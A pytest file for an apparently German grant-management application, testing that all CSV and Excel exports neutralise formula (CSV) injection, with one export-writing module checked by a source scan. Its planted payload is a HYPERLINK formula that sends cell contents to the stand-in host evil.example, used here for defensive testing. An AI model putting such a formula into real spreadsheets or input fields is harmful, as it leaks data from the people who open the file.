"""No cell of a CSV or XLSX file the project writes starts a formula (CSV injection): one function,
``workflow.exports.spreadsheets.inert``, neutralises every cell, no other module writes such a file, and every export
is walked with formulas planted where clerks and administrators type."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from account_steps import create_user
from factories import in_state, programme
from post_award_steps import final_case, on, start, step
from workflow.db import db
from workflow.jobs.runner import run_background_jobs
from workflow.models import Application, CashExport
from workflow.exports.spreadsheets import FORMULA_STARTS, inert

PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
NEUTRALISED = "'" + PLANTED
WORKFLOW = Path(__file__).resolve().parents[2] / "workflow"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage return"])
def test_each_formula_start_owasp_lists_becomes_text(start):
    assert inert(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


def test_text_numbers_and_empty_cells_stay_as_they_are():
    assert [inert(value) for value in ("Stadt Meersburg", "", 5000, -12.5, None)] == [
        "Stadt Meersburg",
        "",
        5000,
        -12.5,
        None,
    ]


def test_no_module_but_the_spreadsheets_module_writes_a_csv_or_xlsx_file():
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")
    found = sorted(
        str(path.relative_to(WORKFLOW))
        for path in WORKFLOW.rglob("*.py")
        if "migrations" not in path.parts and writers.search(path.read_text("utf-8"))
    )
    assert found == ["exports/spreadsheets.py"]


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]


def _xlsx_cells(content: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell is a formula"
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def _planted_case(app, clock) -> tuple[int, int]:
    """A granted case whose account holder, applicant name and a clerk's remark are formulas; its payment is
    ordered (for the cash office's list)."""
    application_id, clerk = final_case(app)
    with app.app_context():
        application = db.session.get(Application, application_id)
        application.account_holder = PLANTED
        application.applicant.name = PLANTED
        db.session.commit()
        on(clock, "2027-03-01")
        payment = start(application_id, "payment", "request_payment", clerk, amount="1000.00", comment=PLANTED)
        step(application_id, payment, "check_payment", "pruefung.sued")
        step(application_id, payment, "order_payment", "zeichnung")
        return application_id, programme().id


def _job_file(app, client, auth, url: str, data: dict, page: str | None = None) -> bytes:
    ordered = auth.post(url, data, page=page)
    assert ordered.status_code == 303, ordered.get_data(as_text=True)[:1000]
    with app.app_context():
        run_background_jobs(db.session)
    return client.get(ordered.headers["Location"].rstrip("/") + "/datei").data


def test_every_export_carries_the_planted_formulas_as_text(app, clock, client, auth):
    application_id, programme_id = _planted_case(app, clock)
    proposed, _ = in_state(app, "decision_proposed")
    exports: dict[str, list[str]] = {}

    auth.login("admin")
    create_user(auth, full_name=PLANTED)
    exports["Protokoll der Verwaltung (CSV)"] = _csv_cells(client.get("/verwaltung/protokoll/export.csv").data)
    exports["Protokoll der Verwaltung (Excel)"] = _xlsx_cells(client.get("/verwaltung/protokoll/export.xlsx").data)
    auth.logout()

    auth.login("referatsleitung")  # not the person who ordered the payment
    assert auth.post("/kasse/", {}, page="/kasse/").status_code == 302
    with app.app_context():
        cash_export = db.session.scalars(select(CashExport)).one().id
    exports["Liste der Kasse"] = _xlsx_cells(client.get(f"/kasse/{cash_export}/liste.xlsx").data)
    auth.logout()

    auth.login("zeichnung")
    exports["Antragsliste"] = _xlsx_cells(client.get("/uebersicht/export.xlsx").data)
    round_zip = _job_file(
        app,
        client,
        auth,
        "/sammelzeichnung/",
        {"auswahl": [f"antrag-{proposed}"], "bestaetigt": "1"},
        page="/sammelzeichnung/",
    )
    exports["Protokoll der Sammelzeichnung"] = _csv_cells(zipfile.ZipFile(io.BytesIO(round_zip)).read("protokoll.csv"))
    auth.logout()

    auth.login("pruefung.sued")
    dossier = zipfile.ZipFile(io.BytesIO(client.get(f"/dokumente/akte/{application_id}").data))
    exports["verlauf.csv der Prüfakte"] = _csv_cells(dossier.read("verlauf.csv"))
    exports["fristen.csv der Prüfakte"] = _csv_cells(dossier.read("fristen.csv"))
    bundle = _job_file(app, client, auth, "/auftraege/pruefakten", {"programme": programme_id, "kreis": 0, "year": ""})
    exports["Verzeichnis der Prüfakten"] = _csv_cells(zipfile.ZipFile(io.BytesIO(bundle)).read("verzeichnis.csv"))

    for name, cells in exports.items():
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
    planted_in = {name for name, cells in exports.items() if any(cell.startswith(NEUTRALISED) for cell in cells)}
    assert planted_in == set(exports) - {"Protokoll der Sammelzeichnung", "fristen.csv der Prüfakte"}
